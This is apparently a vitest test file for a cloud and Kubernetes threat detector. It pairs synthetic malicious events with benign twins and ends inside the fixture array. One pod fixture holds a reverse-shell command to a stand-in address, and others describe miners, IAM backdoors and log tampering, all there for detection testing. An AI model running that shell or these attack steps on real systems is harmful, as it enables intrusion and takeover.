// Every detector keeps its contract; every behaviour is shown with its benign twin.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Event, Finding } from '@throughline/proto';
import { DecodeError } from '../decoder.ts';
import { createAnalyst } from '../engine.ts';
import { cloudtrail } from '../receivers/formats/cloudtrail.ts';
import { kubernetesAudit } from '../receivers/formats/kubernetes-audit.ts';
import { resolverDns } from '../receivers/formats/resolver-dns.ts';
import { s3Access } from '../receivers/formats/s3-access.ts';
import { vpcFlow } from '../receivers/formats/vpc-flow.ts';
import { tacticName, technique } from './attack.ts';
import { severityName } from './finding.ts';
import type { CallRule } from './cloud-call.ts';
import { createDetectors } from './index.ts';

const detectors = createDetectors();

describe.each(detectors.map((detector) => [detector.id, detector] as const))('%s', (_, detector) => {
  it('declares what it is, with ids of ATT&CK', () => {
    expect(detector.id).toMatch(/^[a-z0-9-]+$/);
    expect(detector.title.length).toBeGreaterThan(5);
    expect(detector.blindSpot.length).toBeGreaterThan(10);
    expect(detector.payloads.length).toBeGreaterThan(0);
    for (const id of detector.techniques) expect([id, technique(id)?.name]).toEqual([id, expect.any(String)]);
    for (const id of detector.tactics) expect([id, tacticName(id)]).not.toEqual([id, id]);
  });
});

it('has no two detectors of one id', () => {
  expect(new Set(detectors.map((detector) => detector.id)).size).toBe(detectors.length);
});

it('knows ATT&CK as published', () => {
  const published = JSON.parse(
    readFileSync(new URL('../../../test/data/mitre/attack-enterprise.json', import.meta.url), 'utf8'),
  ) as {
    techniques: { id: string; name: string; tactics: string[]; revoked?: boolean; deprecated?: boolean }[];
    tactics: { id: string; name: string }[];
  };
  for (const tactic of published.tactics) expect(tacticName(tactic.id)).toBe(tactic.name);
  for (const { id, name, tactics, revoked, deprecated } of published.techniques) {
    if (!revoked && !deprecated) expect(technique(id)).toEqual({ id, name, tactics });
  }
});

it('names only techniques that exist in the findings of every labelled case', () => {
  const lines = ['cloudtrail', 'kubernetes-audit'].flatMap((kind) =>
    readFileSync(new URL(`../../../test/data/${kind}/panther-cases.jsonl`, import.meta.url), 'utf8')
      .trim()
      .split('\n'),
  );
  const unknown = new Set<string>();
  for (const line of lines) {
    const { event } = JSON.parse(line) as { event: unknown };
    const format = [cloudtrail, kubernetesAudit].find((candidate) => candidate.recognizes(event));
    const decoded = readable(() => format?.decode(event));
    if (!decoded) continue;
    for (const finding of told([decoded]))
      for (const id of finding.techniques ?? []) if (!technique(id)) unknown.add(id);
  }
  expect([...unknown]).toEqual([]);
});

/** Some cases are about records of other services, which are refused. */
function readable(decode: () => Event | undefined): Event | undefined {
  try {
    return decode();
  } catch (error) {
    expect(error).toBeInstanceOf(DecodeError);
    return undefined;
  }
}

// ---- behaviours and their benign twins -------------------------------------------------------------------------------

let count = 0;
const ACCOUNT = '111122223333';
const ANA = {
  type: 'IAMUser',
  arn: `arn:aws:iam::${ACCOUNT}:user/ana`,
  accountId: ACCOUNT,
  userName: 'ana',
  accessKeyId: 'AKIAAAAABBBBCCCCDDDD',
};

function call(
  source: string,
  name: string,
  requestParameters: unknown = {},
  more: Record<string, unknown> = {},
): Event {
  count += 1;
  return cloudtrail.decode({
    eventVersion: '1.11', eventID: `e-${count}`, requestID: `r-${count}`, eventTime: new Date(Date.parse('2026-03-01T10:00:00Z') + count * 1000).toISOString(), awsRegion: 'eu-west-1',
    eventSource: `${source}.amazonaws.com`, eventName: name, requestParameters, responseElements: null, userIdentity: ANA, recipientAccountId: ACCOUNT, sourceIPAddress: '198.51.100.4', userAgent: 'aws-cli/2', ...more,
  })!; // prettier-ignore
}

function request(verb: string, resource: string, more: Record<string, unknown> = {}): Event {
  count += 1;
  const [name = '', subresource] = resource.split('/');
  const {
    user = 'ana@example.org',
    namespace = 'shop',
    object = 'thing',
    code = 200,
    peer = '10.0.0.9',
    ...rest
  } = more;
  return kubernetesAudit.decode({
    kind: 'Event', apiVersion: 'audit.k8s.io/v1', auditID: `a-${count}`, stage: 'ResponseComplete', verb, requestURI: `/api/v1/${resource}`, user: { username: user }, sourceIPs: [peer], userAgent: 'kubectl/v1.36',
    objectRef: { resource: name, subresource, namespace, name: object }, responseStatus: { code }, requestReceivedTimestamp: new Date(Date.parse('2026-03-01T10:00:00Z') + count * 1000).toISOString(), ...rest,
  })!; // prettier-ignore
}

function told(events: readonly Event[]): Finding[] {
  const analyst = createAnalyst();
  analyst.add(events);
  expect(analyst.counters.detectorFaults).toBe(0);
  return [...analyst.findings()];
}

/** Rules that speak beyond context. */
function rules(events: readonly Event[]): string[] {
  return told(events)
    .filter((finding) => !finding.context)
    .map((finding) => `${finding.rule} ${severityName(finding.severity)}`);
}

const many = (times: number, make: (at: number) => Event): Event[] =>
  Array.from({ length: times }, (_, at) => make(at));
const admin = 'arn:aws:iam::aws:policy/AdministratorAccess';
const trust = (principal: unknown, condition?: unknown): string =>
  JSON.stringify({
    Statement: [
      {
        Effect: 'Allow',
        Principal: principal,
        Action: 'sts:AssumeRole',
        ...(condition ? { Condition: condition } : {}),
      },
    ],
  });
const pod = (spec: Record<string, unknown>): Record<string, unknown> => ({
  requestObject: { kind: 'Pod', spec: { containers: [{ name: 'c', image: 'x' }], ...spec } },
});

const allow = (action: string, resource: string): string =>
  JSON.stringify({ Statement: [{ Effect: 'Allow', Action: action, Resource: resource }] });
const flow = (srcaddr: string, dstaddr: string, dstport: number, action = 'ACCEPT'): Event =>
  vpcFlow.decode({
    srcaddr,
    dstaddr,
    dstport,
    srcport: 50_000,
    action,
    start: 1_772_359_200 + (count += 1),
    interfaceId: 'eni-1',
  })!;
const name = (query: string): Event =>
  resolverDns.decode({
    query_name: `${query}.`,
    query_timestamp: new Date(1.8e12 + (count += 1) * 1000).toISOString(),
    srcids: { instance: 'i-1' },
  })!;
const access = (cipher: string): Event =>
  s3Access.decode(
    `owner b [06/Feb/2026:00:00:${10 + ((count += 1) % 40)} +0000] 192.0.2.3 arn:aws:iam::${ACCOUNT}:user/ana R${count} REST.GET.OBJECT k "GET /b/k HTTP/1.1" 200 - 113 113 7 6 "-" "curl/8" - h SigV4 ${cipher} AuthHeader b.s3.amazonaws.com ${cipher === '-' ? '-' : 'TLSv1.3'}`,
  )!;
const exec = (executable: string, commandLine: string, parentExecutable = ''): Event => ({
  id: `x-${(count += 1)}`, timeUs: 1.8e15 + count, layer: 2, process: { executable, arguments: commandLine.split(' '), parentExecutable }, processExec: { filename: executable },
}); // prettier-ignore
const asked = (header: string): Event => ({
  id: `h-${(count += 1)}`, timeUs: 1.8e15 + count, layer: 1, activity: { id: `a-${count}`, kind: 'http.request', name: 'GET /', peerAddress: '198.51.100.9', userAgent: header },
}); // prettier-ignore

const TWINS: readonly [behaviour: string, rule: string, bad: () => Event[], good: () => Event[]][] = [
  ['trail stopped / started', 'logging-impaired high', () => [call('cloudtrail', 'StopLogging', { name: 't' })], () => [call('cloudtrail', 'StartLogging', { name: 't' })]],
  ['trail narrowed / widened', 'logging-impaired high', () => [call('cloudtrail', 'PutEventSelectors', { trailName: 't', eventSelectors: [{ includeManagementEvents: false }] })], () => [call('cloudtrail', 'PutEventSelectors', { trailName: 't', eventSelectors: [{ includeManagementEvents: true, readWriteType: 'All' }] })]],
  ['trail deleted / deletion refused by a conflict', 'logging-impaired high', () => [call('cloudtrail', 'DeleteTrail', { name: 't' })], () => [call('cloudtrail', 'DeleteTrail', { name: 't' }, { errorCode: 'ConflictException' })]],
  ['logs expire in a day / in two years', 'logging-impaired high', () => [call('s3', 'PutBucketLifecycle', { bucketName: 'trail-logs', LifecycleConfiguration: { Rule: { Status: 'Enabled', Expiration: { Days: 1 } } } })], () => [call('s3', 'PutBucketLifecycle', { bucketName: 'trail-logs', LifecycleConfiguration: { Rule: { Status: 'Enabled', Expiration: { Days: 730 } } } })]],
  ['GuardDuty off / on', 'defence-disabled high', () => [call('guardduty', 'UpdateDetector', { enable: false })], () => [call('guardduty', 'UpdateDetector', { enable: true })]],
  ['leaves the organisation / describes it', 'defence-disabled high', () => [call('organizations', 'LeaveOrganization')], () => [call('organizations', 'DescribeOrganization')]],
  ['key for another user / for oneself', 'iam-backdoor medium', () => [call('iam', 'CreateAccessKey', { userName: 'bo' })], () => [call('iam', 'CreateAccessKey', { userName: 'ana' })]],
  ['administrator rights / read rights', 'iam-backdoor high', () => [call('iam', 'AttachUserPolicy', { userName: 'bo', policyArn: admin })], () => [call('iam', 'AttachUserPolicy', { userName: 'bo', policyArn: 'arn:aws:iam::aws:policy/ReadOnlyAccess' })]],
  ['role for anybody / for a service', 'iam-backdoor critical', () => [call('iam', 'UpdateAssumeRolePolicy', { roleName: 'r', policyDocument: trust('*') })], () => [call('iam', 'UpdateAssumeRolePolicy', { roleName: 'r', policyDocument: trust({ Service: 'ec2.amazonaws.com' }) })]],
  ['role for a foreign account / for one’s own', 'iam-backdoor high', () => [call('iam', 'UpdateAssumeRolePolicy', { roleName: 'r', policyDocument: trust({ AWS: 'arn:aws:iam::999988887777:root' }) })], () => [call('iam', 'UpdateAssumeRolePolicy', { roleName: 'r', policyDocument: trust({ AWS: `arn:aws:iam::${ACCOUNT}:root` }) })]],
  ['snapshot for everybody / for oneself', 'data-exposed high', () => [call('ec2', 'ModifySnapshotAttribute', { snapshotId: 's', createVolumePermission: { add: { items: [{ group: 'all' }] } } })], () => [call('ec2', 'ModifySnapshotAttribute', { snapshotId: 's', createVolumePermission: { add: { items: [{ userId: ACCOUNT }] } } })]],
  ['database public / bigger', 'data-exposed high', () => [call('rds', 'ModifyDBInstance', { dBInstanceIdentifier: 'd', publiclyAccessible: true })], () => [call('rds', 'ModifyDBInstance', { dBInstanceIdentifier: 'd', allocatedStorage: 40 })]],
  ['bucket open / open to the organisation', 'data-exposed high', () => [call('s3', 'PutBucketPolicy', { bucketName: 'b', bucketPolicy: trust('*') })], () => [call('s3', 'PutBucketPolicy', { bucketName: 'b', bucketPolicy: trust('*', { StringEquals: { 'aws:PrincipalOrgID': 'o-1' } }) })]],
  ['queue open / unchanged policy', 'data-exposed high', () => [call('sqs', 'SetQueueAttributes', { attributes: { Policy: trust('*') } })], () => [call('sqs', 'SetQueueAttributes', { attributes: { Policy: '' } })]],
  ['port 22 for everybody / for an office', 'network-opened medium', () => [call('ec2', 'AuthorizeSecurityGroupIngress', { groupId: 'g', ipProtocol: 'tcp', fromPort: 22, toPort: 22, cidrIp: '203.0.113.9/0' })], () => [call('ec2', 'AuthorizeSecurityGroupIngress', { groupId: 'g', ipProtocol: 'tcp', fromPort: 22, toPort: 22, cidrIp: '203.0.113.9/32' })]],
  ['start script changed / size changed', 'machine-access medium', () => [call('ec2', 'ModifyInstanceAttribute', { instanceId: 'i', userData: 'x' })], () => [call('ec2', 'ModifyInstanceAttribute', { instanceId: 'i', instanceType: { value: 't3.micro' } })]],
  ['graphics machine / small machine', 'compute-hijacked medium', () => [call('ec2', 'RunInstances', { instanceType: 'p3.8xlarge', instancesSet: { items: [{ maxCount: 1 }] } })], () => [call('ec2', 'RunInstances', { instanceType: 't3.micro', instancesSet: { items: [{ maxCount: 1 }] } })]],
  ['login without a factor / with one', 'console-login medium', () => [call('signin', 'ConsoleLogin', null, { responseElements: { ConsoleLogin: 'Success' }, additionalEventData: { MFAUsed: 'No' } })], () => [call('signin', 'ConsoleLogin', null, { responseElements: { ConsoleLogin: 'Success' }, additionalEventData: { MFAUsed: 'Yes' } })]],
  ['five failed logins / four', 'login-guessing medium', () => many(5, () => call('signin', 'ConsoleLogin', null, { responseElements: { ConsoleLogin: 'Failure' } })), () => many(4, () => call('signin', 'ConsoleLogin', null, { responseElements: { ConsoleLogin: 'Failure' } }))],
  ['root changes something / looks', 'root-activity medium', () => [call('s3', 'PutBucketTagging', { bucketName: 'b' }, { userIdentity: { type: 'Root', arn: `arn:aws:iam::${ACCOUNT}:root` } })], () => [call('iam', 'ListAccessKeys', null, { userIdentity: { type: 'Root', arn: `arn:aws:iam::${ACCOUNT}:root` } })]],
  ['twenty objects / nineteen', 's3-bulk-read medium', () => many(20, (at) => call('s3', 'GetObject', { bucketName: 'b', key: String(at) })), () => many(19, (at) => call('s3', 'GetObject', { bucketName: 'b', key: String(at) }))],
  ['ten deletions / nine', 'bulk-deletion medium', () => many(10, (at) => call('s3', 'DeleteObject', { bucketName: 'b', key: String(at) })), () => many(9, (at) => call('s3', 'DeleteObject', { bucketName: 'b', key: String(at) }))],
  ['copies under a foreign key / own', 'encrypted-for-ransom high', () => many(3, (at) => call('s3', 'CopyObject', { bucketName: 'b', key: String(at), 'x-amz-server-side-encryption-customer-algorithm': 'AES256' })), () => many(3, (at) => call('s3', 'CopyObject', { bucketName: 'b', key: String(at), 'x-amz-server-side-encryption': 'AES256' }))],
  ['eight secrets / the same one often', 'secrets-in-bulk medium', () => many(8, (at) => call('secretsmanager', 'GetSecretValue', { secretId: String(at) })), () => many(30, () => call('secretsmanager', 'GetSecretValue', { secretId: 'db' }))],
  ['passwords of four machines / of one, asked often', 'machine-secrets medium', () => many(4, (at) => call('ec2', 'GetPasswordData', { instanceId: `i-${at}` }, { errorCode: 'Client.UnauthorizedOperation' })), () => many(6, () => call('ec2', 'GetPasswordData', { instanceId: 'i-1' }, { errorCode: 'Client.UnauthorizedOperation' }))],
  ['federated administrator / role assumed', 'session-minted high', () => [call('sts', 'GetFederationToken', { name: 'n', policy: JSON.stringify({ Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] }) })], () => [call('sts', 'AssumeRole', { roleArn: 'r' })]],
  ['function code / dry run', 'compute-code low', () => [call('lambda', 'UpdateFunctionCode20150331v2', { functionName: 'f' })], () => [call('lambda', 'UpdateFunctionCode20150331v2', { functionName: 'f', dryRun: true })]],
  ['a person deletes a trail / AWS cleans up', 'logging-impaired high', () => [call('cloudtrail', 'DeleteTrail', { name: 't' })], () => [call('cloudtrail', 'DeleteTrail', { name: 't' }, { userIdentity: { type: 'AWSService', invokedBy: 'organizations.amazonaws.com' } })]],

  ['privileged pod / plain pod', 'host-level-pod high', () => [request('create', 'pods', pod({ containers: [{ name: 'c', securityContext: { privileged: true } }] }))], () => [request('create', 'pods', pod({}))]],
  ['privileged second container / init container without', 'host-level-pod high', () => [request('create', 'deployments', { requestObject: { spec: { template: { spec: { containers: [{}, { securityContext: { privileged: true } }] } } } } })], () => [request('create', 'deployments', { requestObject: { spec: { template: { spec: { containers: [{}], initContainers: [{ securityContext: { privileged: false } }] } } } } })]],
  ['all of the node’s files / an empty folder', 'host-level-pod high', () => [request('create', 'pods', pod({ volumes: [{ hostPath: { path: '/' } }] }))], () => [request('create', 'pods', pod({ volumes: [{ emptyDir: {} }] }))]],
  ['host network / refused', 'host-level-pod medium', () => [request('create', 'pods', pod({ hostNetwork: true }))], () => [request('create', 'pods', { ...pod({ hostNetwork: true }), code: 403 })]],
  ['cluster-admin / view', 'rbac-grant medium', () => [request('create', 'clusterrolebindings', { requestObject: { roleRef: { name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'bo' }] } })], () => [request('create', 'clusterrolebindings', { requestObject: { roleRef: { name: 'view' }, subjects: [{ kind: 'User', name: 'bo' }] } })]],
  ['rights for nobody / for everybody logged in to discover', 'rbac-grant critical', () => [request('create', 'clusterrolebindings', { requestObject: { roleRef: { name: 'edit' }, subjects: [{ kind: 'User', name: 'system:anonymous' }] } })], () => [request('create', 'clusterrolebindings', { requestObject: { roleRef: { name: 'system:discovery' }, subjects: [{ kind: 'Group', name: 'system:unauthenticated' }] } })]],
  ['every right / one right', 'rbac-grant high', () => [request('create', 'clusterroles', { requestObject: { rules: [{ resources: ['*'], verbs: ['*'] }] } })], () => [request('create', 'clusterroles', { requestObject: { rules: [{ resources: ['pods'], verbs: ['get'] }] } })]],
  ['secrets of all namespaces / one secret', 'secrets-dump medium', () => [request('list', 'secrets', { namespace: '', object: '' })], () => [request('get', 'secrets')]],
  ['change without a login / health check without one', 'anonymous-access critical', () => [request('create', 'pods', { user: 'system:anonymous' })], () => [request('get', 'x', { user: 'system:anonymous', requestURI: '/healthz', objectRef: undefined })]],
  ['exec by a program / logs by a person', 'pod-entered medium', () => [request('create', 'pods/exec', { user: 'system:serviceaccount:shop:web' })], () => [request('get', 'pods/log')]],
  ['node port / cluster address', 'cluster-exposed low', () => [request('create', 'services', { requestObject: { spec: { type: 'NodePort' } } })], () => [request('create', 'services', { requestObject: { spec: { type: 'ClusterIP' } } })]],
  ['credentials in a config map / settings', 'cluster-exposed low', () => [request('create', 'configmaps', { requestObject: { data: { env: 'aws_secret_access_key = x' } } })], () => [request('create', 'configmaps', { requestObject: { data: { env: 'colour = blue' } } })]],
  ['cron job / job', 'cluster-persistence low', () => [request('create', 'cronjobs')], () => [request('create', 'jobs')]],
  ['token by hand / by the kubelet', 'cluster-persistence low', () => [request('create', 'serviceaccounts/token')], () => [request('create', 'serviceaccounts/token', { user: 'system:node:n1', requestObject: { spec: { boundObjectRef: { kind: 'Pod' } } } })]],
  ['system role changed / one’s own', 'cluster-evasion medium', () => [request('patch', 'clusterroles', { object: 'system:node' })], () => [request('patch', 'clusterroles', { object: 'shop-reader' })]],
  ['rights that lead to all / rights on one bucket', 'iam-backdoor low', () => [call('iam', 'PutUserPolicy', { userName: 'bo', policyDocument: allow('iam:PassRole', '*') })], () => [call('iam', 'PutUserPolicy', { userName: 'bo', policyDocument: allow('s3:GetObject', 'arn:aws:s3:::b/*') })]],
  ['trusts itself / trusts a service', 'iam-backdoor medium', () => [call('iam', 'UpdateAssumeRolePolicy', { roleName: 'r', policyDocument: trust({ AWS: ANA.arn }) })], () => [call('iam', 'UpdateAssumeRolePolicy', { roleName: 'r', policyDocument: trust({ Service: 'lambda.amazonaws.com' }) })]],
  ['second factor for another / for oneself', 'iam-backdoor low', () => [call('iam', 'EnableMFADevice', { userName: 'bo' })], () => [call('iam', 'EnableMFADevice', { userName: 'ana' })]],
  ['key found in public, by AWS itself / any other policy by AWS', 'iam-backdoor high', () => [call('iam', 'AttachUserPolicy', { userName: 'bo', policyArn: 'arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3' }, { userIdentity: { type: 'AWSService', invokedBy: 'trustedadvisor.amazonaws.com' } })], () => [call('iam', 'AttachUserPolicy', { userName: 'bo', policyArn: 'arn:aws:iam::aws:policy/ReadOnlyAccess' }, { userIdentity: { type: 'AWSService', invokedBy: 'x.amazonaws.com' } })]],
  ['parts of GuardDuty off / on', 'defence-disabled medium', () => [call('guardduty', 'UpdateDetector', { features: [{ name: 'S3_DATA_EVENTS', status: 'DISABLED' }] })], () => [call('guardduty', 'UpdateDetector', { features: [{ name: 'S3_DATA_EVENTS', status: 'ENABLED' }] })]],
  ['snapshots may be public / may not', 'defence-disabled medium', () => [call('ec2', 'DisableSnapshotBlockPublicAccess', {})], () => [call('ec2', 'EnableSnapshotBlockPublicAccess', {})]],
  ['images replaced under their names / not', 'defence-disabled low', () => [call('ecr', 'PutImageTagMutability', { imageTagMutability: 'MUTABLE' })], () => [call('ecr', 'PutImageTagMutability', { imageTagMutability: 'IMMUTABLE' })]],
  ['machine unprotected / protected', 'defence-disabled low', () => [call('ec2', 'ModifyInstanceAttribute', { instanceId: 'i', disableApiTermination: { value: false } })], () => [call('ec2', 'ModifyInstanceAttribute', { instanceId: 'i', disableApiTermination: { value: true } })]],
  ['recording narrowed / everything', 'logging-impaired low', () => [call('config', 'PutConfigurationRecorder', { configurationRecorder: { recordingGroup: { allSupported: false } } })], () => [call('config', 'PutConfigurationRecorder', { configurationRecorder: { recordingGroup: { allSupported: true } } })]],
  ['audit log of a database off / on', 'logging-impaired low', () => [call('rds', 'ModifyDBParameterGroup', { parameters: [{ parameterName: 'pgaudit.log', parameterValue: 'none' }] })], () => [call('rds', 'ModifyDBParameterGroup', { parameters: [{ parameterName: 'pgaudit.log', parameterValue: 'all' }] })]],
  ['insights of a trail off / on', 'logging-impaired low', () => [call('cloudtrail', 'PutInsightSelectors', { insightSelectors: [] })], () => [call('cloudtrail', 'PutInsightSelectors', { insightSelectors: [{ insightType: 'ApiCallRateInsight' }] })]],
  ['restored in public / inside', 'data-exposed high', () => [call('rds', 'RestoreDBInstanceToPointInTime', { publiclyAccessible: true })], () => [call('rds', 'RestoreDBInstanceToPointInTime', { publiclyAccessible: false })]],
  ['events from everybody / from one’s own', 'data-exposed high', () => [call('events', 'PutPermission', { principal: '*' })], () => [call('events', 'PutPermission', { principal: ACCOUNT })]],
  ['bucket under a foreign key / one’s own', 'data-exposed high', () => [call('s3', 'PutBucketEncryption', { bucketName: 'b', ServerSideEncryptionConfiguration: { Rule: { KMSMasterKeyID: 'arn:aws:kms:eu-west-1:999988887777:key/k' } } })], () => [call('s3', 'PutBucketEncryption', { bucketName: 'b', ServerSideEncryptionConfiguration: { Rule: { KMSMasterKeyID: `arn:aws:kms:eu-west-1:${ACCOUNT}:key/k` } } })]],
  ['table to a foreign bucket / nothing exported', 'data-exported high', () => [call('dynamodb', 'ExportTableToPointInTime', { tableArn: 't', s3Bucket: 'b', s3BucketOwner: '999988887777' })], () => [call('dynamodb', 'DescribeExport', {})]],
  ['key for a foreign account / for one’s own role', 'data-exported medium', () => [call('kms', 'CreateGrant', { keyId: 'k', granteePrincipal: 'arn:aws:iam::999988887777:root' })], () => [call('kms', 'CreateGrant', { keyId: 'k', granteePrincipal: `arn:aws:iam::${ACCOUNT}:role/r` })]],
  ['logs to a foreign account / to one’s own', 'data-exported medium', () => [call('logs', 'PutSubscriptionFilter', { destinationArn: 'arn:aws:logs:eu-west-1:999988887777:destination:d' })], () => [call('logs', 'PutSubscriptionFilter', { destinationArn: `arn:aws:lambda:eu-west-1:${ACCOUNT}:function:f` })]],
  ['a note for the owner / a page', 'data-destroyed medium', () => [call('s3', 'PutObject', { bucketName: 'b', key: 'HOW_TO_RECOVER_YOUR_FILES.txt' })], () => [call('s3', 'PutObject', { bucketName: 'b', key: 'docs/readme-first.txt' })]],
  ['function stopped / limited', 'data-destroyed low', () => [call('lambda', 'PutFunctionConcurrency', { functionName: 'f', reservedConcurrentExecutions: 0 })], () => [call('lambda', 'PutFunctionConcurrency', { functionName: 'f', reservedConcurrentExecutions: 10 })]],
  ['machines ended by a person / by a fleet', 'data-destroyed low', () => [call('ec2', 'TerminateInstances', { instancesSet: { items: [{ instanceId: 'i' }] } })], () => [call('ec2', 'TerminateInstances', { instancesSet: { items: [{ instanceId: 'i' }] } }, { userIdentity: { type: 'AWSService', invokedBy: 'autoscaling.amazonaws.com' } })]],
  ['traffic of others passed on / not', 'network-opened low', () => [call('ec2', 'ModifyInstanceAttribute', { instanceId: 'i', sourceDestCheck: { value: false } })], () => [call('ec2', 'ModifyInstanceAttribute', { instanceId: 'i', sourceDestCheck: { value: true } })]],
  ['group changed by hand / by a template', 'network-opened low', () => [call('ec2', 'RevokeSecurityGroupIngress', { groupId: 'g' })], () => [call('ec2', 'RevokeSecurityGroupIngress', { groupId: 'g' }, { userAgent: 'cloudformation.amazonaws.com', userIdentity: { ...ANA, invokedBy: 'cloudformation.amazonaws.com' } })]],
  ['fifty machines / five', 'compute-hijacked medium', () => [call('autoscaling', 'UpdateAutoScalingGroup', { desiredCapacity: 50 })], () => [call('autoscaling', 'UpdateAutoScalingGroup', { desiredCapacity: 5 })]],
  ['graphics notebook / small notebook', 'compute-hijacked low', () => [call('sagemaker', 'CreateNotebookInstance', { instanceType: 'ml.p3.8xlarge' })], () => [call('sagemaker', 'CreateNotebookInstance', { instanceType: 'ml.t3.medium' })]],
  ['function given a role / more memory', 'compute-code low', () => [call('lambda', 'UpdateFunctionConfiguration20150331v2', { functionName: 'f', role: `arn:aws:iam::${ACCOUNT}:role/admin` })], () => [call('lambda', 'UpdateFunctionConfiguration20150331v2', { functionName: 'f', memorySize: 256 })]],
  ['build with its own instructions / plain build', 'borrowed-role low', () => [call('codebuild', 'StartBuild', { projectName: 'p', buildspecOverride: 'x' })], () => [call('codebuild', 'StartBuild', { projectName: 'p' })]],
  ['stack under a role / under one’s own', 'borrowed-role low', () => [call('cloudformation', 'CreateStack', { roleARN: `arn:aws:iam::${ACCOUNT}:role/admin` })], () => [call('cloudformation', 'CreateStack', { stackName: 's' })]],
  ['task on the machine / plain task', 'borrowed-role medium', () => [call('ecs', 'RegisterTaskDefinition', { containerDefinitions: [{ privileged: true }] })], () => [call('ecs', 'RegisterTaskDefinition', { containerDefinitions: [{ image: 'x' }] })]],
  ['address of root changed / read', 'account-taken medium', () => [call('account', 'StartPrimaryEmailUpdate', {})], () => [call('account', 'GetPrimaryEmail', {})]],
  ['a system of intruders / an ordinary one', 'attack-tool medium', () => [call('sts', 'GetCallerIdentity', {}, { userAgent: 'aws-cli/2.9 Python/3.11 Linux/6.6-kali-amd64' })], () => [call('sts', 'GetCallerIdentity', {}, { userAgent: 'aws-cli/2.9 Python/3.11 Linux/6.6-amazon' })]],
  ['root refused / a user refused', 'console-login low', () => [call('signin', 'ConsoleLogin', null, { responseElements: { ConsoleLogin: 'Failure' }, userIdentity: { type: 'Root', arn: `arn:aws:iam::${ACCOUNT}:root` } })], () => [call('signin', 'ConsoleLogin', null, { responseElements: { ConsoleLogin: 'Failure' } })]],

  ['shell to the outside / a plain command', 'pod-purpose high', () => [request('create', 'pods', pod({ containers: [{ name: 'c', image: 'alpine', command: ['sh', '-c', 'bash -i >& /dev/tcp/192.0.2.7/443 0>&1'] }] }))], () => [request('create', 'pods', pod({ containers: [{ name: 'c', image: 'alpine', command: ['sh', '-c', 'exec /app/start --port 8080'] }] }))]],
  ['miner / a queue worker', 'pod-purpose high', () => [request('create', 'deployments', { requestObject: { spec: { template: { spec: { containers: [{ image: 'registry.example/xmrig:6' }] } } } } })], () => [request('create', 'deployments', { requestObject: { spec: { template: { spec: { containers: [{ image: 'registry.example/worker:6' }] } } } } })]],
  ['node’s root as a volume / a disk', 'host-level-pod medium', () => [request('create', 'persistentvolumes', { namespace: '', requestObject: { spec: { hostPath: { path: '/etc' } } } })], () => [request('create', 'persistentvolumes', { namespace: '', requestObject: { spec: { csi: { driver: 'ebs.csi.aws.com' } } } })]],
  ['acts as an administrator / as itself', 'impersonation medium', () => [request('list', 'secrets', { impersonatedUser: { username: 'system:admin' } })], () => [request('list', 'secrets', { impersonatedUser: { username: 'ana@example.org' } })]],
  ['privileged pods let in / restricted', 'cluster-evasion medium', () => [request('patch', 'namespaces', { requestObject: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } } })], () => [request('patch', 'namespaces', { requestObject: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } } } })]],
  ['AWS quarantines a user / the account’s own policy', 'key-quarantined high', () => [call('iam', 'AttachUserPolicy', { userName: 'ci', policyArn: 'arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3' }, { sourceIPAddress: 'AWS Internal', userAgent: 'AWS Internal' })], () => [call('iam', 'AttachUserPolicy', { userName: 'ci', policyArn: `arn:aws:iam::${ACCOUNT}:policy/AWSCompromisedKeyQuarantineV3` }), call('iam', 'AttachUserPolicy', { userName: 'ci', policyArn: 'arn:aws:iam::aws:policy/ReadOnlyAccess' })]],
  ['quarantine lifted / another policy taken off', 'key-quarantined medium', () => [call('iam', 'DetachUserPolicy', { userName: 'ci', policyArn: 'arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV2' })], () => [call('iam', 'DetachUserPolicy', { userName: 'ci', policyArn: 'arn:aws:iam::aws:policy/ReadOnlyAccess' })]],
  ['guard deleted / a service deleted', 'cluster-evasion medium', () => [request('delete', 'daemonsets', { object: 'falco' })], () => [request('delete', 'daemonsets', { object: 'shop' })]],
  ['code in the web server / a plain host', 'cluster-exposed medium', () => [request('create', 'ingresses', { requestObject: { metadata: { annotations: { 'nginx.ingress.kubernetes.io/configuration-snippet': 'lua' } } } })], () => [request('create', 'ingresses', { requestObject: { spec: { rules: [{ host: 'shop.example' }] } } })]],
  ['all pods deleted / one', 'cluster-destroyed medium', () => [request('deletecollection', 'pods')], () => [request('delete', 'pods')]],
  ['gives itself a role / gives it to another', 'rbac-grant medium', () => [request('create', 'rolebindings', { requestObject: { roleRef: { name: 'deployer' }, subjects: [{ kind: 'User', name: 'ana@example.org' }] } })], () => [request('create', 'rolebindings', { requestObject: { roleRef: { name: 'deployer' }, subjects: [{ kind: 'User', name: 'bo@example.org' }] } })]],
  ['account tied to the cloud / plain account', 'cluster-persistence low', () => [request('patch', 'serviceaccounts', { requestObject: { metadata: { annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::1:role/r' } } } })], () => [request('patch', 'serviceaccounts', { requestObject: { metadata: { annotations: { team: 'a' } } } })]],
  ['node’s credential in a hand / in the kubelet', 'credential-in-hand medium', () => [request('list', 'secrets', { user: 'system:node:n1', userAgent: 'kubectl/v1.36' })], () => [request('list', 'secrets', { user: 'system:node:n1', userAgent: 'kubelet/v1.36' })]],
  ['six things tried / one thing often', 'account-refusals low', () => many(6, (at) => request('get', `things${at}`, { user: 'system:serviceaccount:shop:web', code: 403 })), () => many(9, () => request('get', 'things', { user: 'system:serviceaccount:shop:web', code: 403 }))],
  ['ten sorts of objects / one sort', 'cluster-explored low', () => many(10, (at) => request('list', `things${at}`)), () => many(30, () => request('list', 'things'))],
  ['kube-system changed by a person / by its controller', 'cluster-persistence low', () => [request('patch', 'deployments', { namespace: 'kube-system' })], () => [request('patch', 'deployments', { namespace: 'kube-system', user: 'system:serviceaccount:kube-system:deployment-controller' })]],

  ['login reached from the internet / web port', 'reached-from-outside low', () => [flow('198.51.100.9', '10.0.0.4', 22)], () => [flow('198.51.100.9', '10.0.0.4', 443), flow('10.0.0.9', '10.0.0.4', 22), flow('198.51.100.9', '10.0.0.4', 22, 'REJECT')]],
